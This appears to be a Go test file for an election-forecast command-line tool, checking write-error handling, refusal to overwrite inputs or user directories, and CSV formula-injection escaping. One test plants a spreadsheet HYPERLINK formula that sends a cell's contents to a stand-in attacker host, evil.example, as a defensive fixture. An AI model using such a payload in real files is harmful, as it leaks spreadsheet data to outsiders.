package main

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"forecast/reports/safe/safetest"
)

// TestWriteErrorsFail runs every command that writes to standard output, in
// every format, with standard output on /dev/full: each must exit 1 and say
// why, never exit 0 having written nothing.
func TestWriteErrorsFail(t *testing.T) {
	full := safetest.DevFull(t)
	dir := t.TempDir()
	write := func(name, text string) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	margins := write("margins.csv", "variable,category,target\nsex,F,0.5\nsex,M,0.5\n")
	sample := write("sample.csv", "id,sex\n1,F\n2,M\n3,F\n")
	buzz := write("buzz.csv", "source,series,published_date,published_time,round,candidate,value,measure,forecast,what_it_measures,volume,source_url,note\n"+
		"filteris,filteris,2017-04-21,,1,Emmanuel Macron,21,weight_share,yes,,,u,\nfilteris,filteris,2017-04-21,,1,Marine Le Pen,20,weight_share,yes,,,u,\n")
	var cases [][]string
	for _, format := range []string{"table", "csv", "json", "markdown"} {
		cases = append(cases,
			[]string{"score", "--format", format},
			[]string{"score", "--detail", "--format", format},
			[]string{"diagnose", "polls", "--format", format},
			[]string{"diagnose", "buzz", "--format", format},
			[]string{"compare", "filteris", "ifop-fiducial", "--format", format},
			[]string{"rate", "../../data/upstream/fivethirtyeight/2016/raw-polls.csv", "--format", format},
			[]string{"history", "--format", format, "--table", "elections"},
			[]string{"diagnose", "weights", "--sample", sample, "--margins", margins, "--format", format, "--table", "summary"})
	}
	for _, format := range []string{"table", "json"} {
		cases = append(cases, []string{"data", "list", "--format", format}, []string{"data", "show", "fr-2017-presidential", "--format", format})
	}
	cases = append(cases,
		[]string{"diagnose", "all", "--format", "json"},
		[]string{"diagnose", "tse", "--format", "csv"},
		[]string{"chart", "leaderboard", "--format", "csv", "--out", "-"},
		[]string{"chart", "leaderboard", "--format", "svg", "--out", "-"},
		[]string{"import", "buzz", buzz},
		[]string{"--help"},
		[]string{"score", "--help"})
	for _, args := range cases {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			var stderr bytes.Buffer
			code := Main(args, full, &stderr)
			if code != exitFailure || !strings.Contains(stderr.String(), "no space left on device") {
				t.Errorf("exit %d, stderr %q; want exit 1 and the write error", code, stderr.String())
			}
		})
	}
}

// TestOutRefusesInput gives --out the path of an input, directly, through
// ".." and through a symbolic link: the command must refuse (exit 2) and
// leave the input as it was.
func TestOutRefusesInput(t *testing.T) {
	dir := t.TempDir()
	write := func(name, text string) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	buzzText := "source,series,published_date,published_time,round,candidate,value,measure,forecast,what_it_measures,volume,source_url,note\n" +
		"filteris,filteris,2017-04-21,,1,Emmanuel Macron,21,weight_share,yes,,,u,\nfilteris,filteris,2017-04-21,,1,Marine Le Pen,20,weight_share,yes,,,u,\n"
	buzz := write("buzz.csv", buzzText)
	marginsText, sampleText := "variable,category,target\nsex,F,0.5\nsex,M,0.5\n", "id,sex\n1,F\n2,M\n3,F\n"
	margins, sample := write("margins.csv", marginsText), write("sample.csv", sampleText)
	link := filepath.Join(dir, "link.csv")
	if err := os.Symlink(sample, link); err != nil {
		t.Fatal(err)
	}
	data := filepath.Join(dir, "data")
	if err := os.CopyFS(data, os.DirFS("../../data/fr2017")); err != nil {
		t.Fatal(err)
	}
	forecasts := filepath.Join(data, "forecasts.csv")
	forecastsText, err := os.ReadFile(forecasts)
	if err != nil {
		t.Fatal(err)
	}
	dotdot := filepath.Join(dir, "data", "..", "buzz.csv")
	for _, c := range []struct {
		args        []string
		input, text string
	}{
		{[]string{"import", "buzz", buzz, "--out", buzz}, buzz, buzzText},
		{[]string{"import", "buzz", buzz, "--out", dotdot}, buzz, buzzText},
		{[]string{"diagnose", "weights", "--sample", sample, "--margins", margins, "--out", link}, sample, sampleText},
		{[]string{"diagnose", "weights", "--sample", link, "--margins", margins, "--out", sample}, sample, sampleText},
		{[]string{"diagnose", "weights", "--sample", sample, "--margins", margins, "--out", margins}, margins, marginsText},
		{[]string{"chart", "final", "--data", data, "--format", "csv", "--out", forecasts}, forecasts, string(forecastsText)},
	} {
		code, _, errs := run(t, c.args...)
		if code != exitUsage || !strings.Contains(errs, "choose another file") {
			t.Errorf("%v: exit %d, stderr %q; want exit 2 and a refusal", c.args, code, errs)
		}
		if b, _ := os.ReadFile(c.input); string(b) != c.text {
			t.Errorf("%v: the input %s changed", c.args, c.input)
		}
	}
}

// TestReportForceRefuses gives report --force a file, a directory of the
// user's and the --data directory (marked as a report, so that only its
// being the data stops it): each is refused with exit 2 and left as it was.
func TestReportForceRefuses(t *testing.T) {
	dir := t.TempDir()
	file := filepath.Join(dir, "notes.txt")
	os.WriteFile(file, []byte("mine"), 0o644)
	thesis := filepath.Join(dir, "thesis")
	os.Mkdir(thesis, 0o755)
	os.WriteFile(filepath.Join(thesis, "one.tex"), []byte("mine"), 0o644)
	data := filepath.Join(dir, "data")
	if err := os.CopyFS(data, os.DirFS("../../data/fr2017")); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(data, ".forecast-report"), nil, 0o644)
	for _, c := range []struct {
		args      []string
		msg, keep string
	}{
		{[]string{"report", "--out", file, "--force"}, "is not a directory", file},
		{[]string{"report", "--out", thesis, "--force"}, "has no .forecast-report file", filepath.Join(thesis, "one.tex")},
		{[]string{"report", "--out", thesis}, "use --force to replace it", filepath.Join(thesis, "one.tex")},
		{[]string{"report", "--data", data, "--out", data, "--force"}, "must not be replaced", filepath.Join(data, "forecasts.csv")},
		{[]string{"report", "--data", filepath.Join(data, "."), "--out", dir, "--force"}, "has no .forecast-report file", filepath.Join(data, "forecasts.csv")},
	} {
		code, _, errs := run(t, c.args...)
		if code != exitUsage || !strings.Contains(errs, c.msg) {
			t.Errorf("%v: exit %d, stderr %q; want exit 2 and %q", c.args, code, errs, c.msg)
		}
		if _, err := os.Stat(c.keep); err != nil {
			t.Errorf("%v: %v", c.args, err)
		}
	}
}

// TestCSVFormulaInjection names a pollster of a --data directory with a
// spreadsheet formula, as a community file could: no CSV the commands write
// may hold it as a formula, and negative numbers stay numbers.
func TestCSVFormulaInjection(t *testing.T) {
	const evil = `=HYPERLINK("http://evil.example/?x="&A1,"OW")`
	data := filepath.Join(t.TempDir(), "data")
	if err := os.CopyFS(data, os.DirFS("../../data/fr2017")); err != nil {
		t.Fatal(err)
	}
	forecasts := filepath.Join(data, "forecasts.csv")
	b, err := os.ReadFile(forecasts)
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	name := slices.Index(recs[0], "source_name")
	for _, rec := range recs[1:] {
		if rec[name] == "Ifop-Fiducial" {
			rec[name] = evil
		}
	}
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	w.WriteAll(recs)
	if err := os.WriteFile(forecasts, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		args           []string
		name, negative bool // whether the CSV holds the name, negative numbers
	}{
		{[]string{"score", "--format", "csv"}, true, true},
		{[]string{"score", "--format", "csv", "--at", "all"}, true, true},
		{[]string{"score", "--format", "csv", "--detail"}, false, true},
		{[]string{"chart", "errors", "--format", "csv", "--out", "-"}, true, true},
		{[]string{"chart", "final", "--format", "csv", "--out", "-"}, true, false},
		{[]string{"diagnose", "polls", "--format", "csv", "--table", "house_effects"}, false, true},
	} {
		args := c.args
		code, out, errs := run(t, append(args, "--data", data)...)
		if code != 0 {
			t.Fatalf("%v: exit %d: %s", args, code, errs)
		}
		found, negative := false, false
		for _, r := range readCSV(t, out) {
			for _, c := range r {
				found = found || c == "'"+evil
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					if _, err := strconv.ParseFloat(c, 64); err != nil {
						t.Errorf("%v: cell %q would be a formula in a spreadsheet", args, c)
					}
					negative = true
				}
			}
		}
		if found != c.name || negative != c.negative {
			t.Errorf("%v: the name as text: %v, want %v; negative numbers kept: %v, want %v", args, found, c.name, negative, c.negative)
		}
	}
}
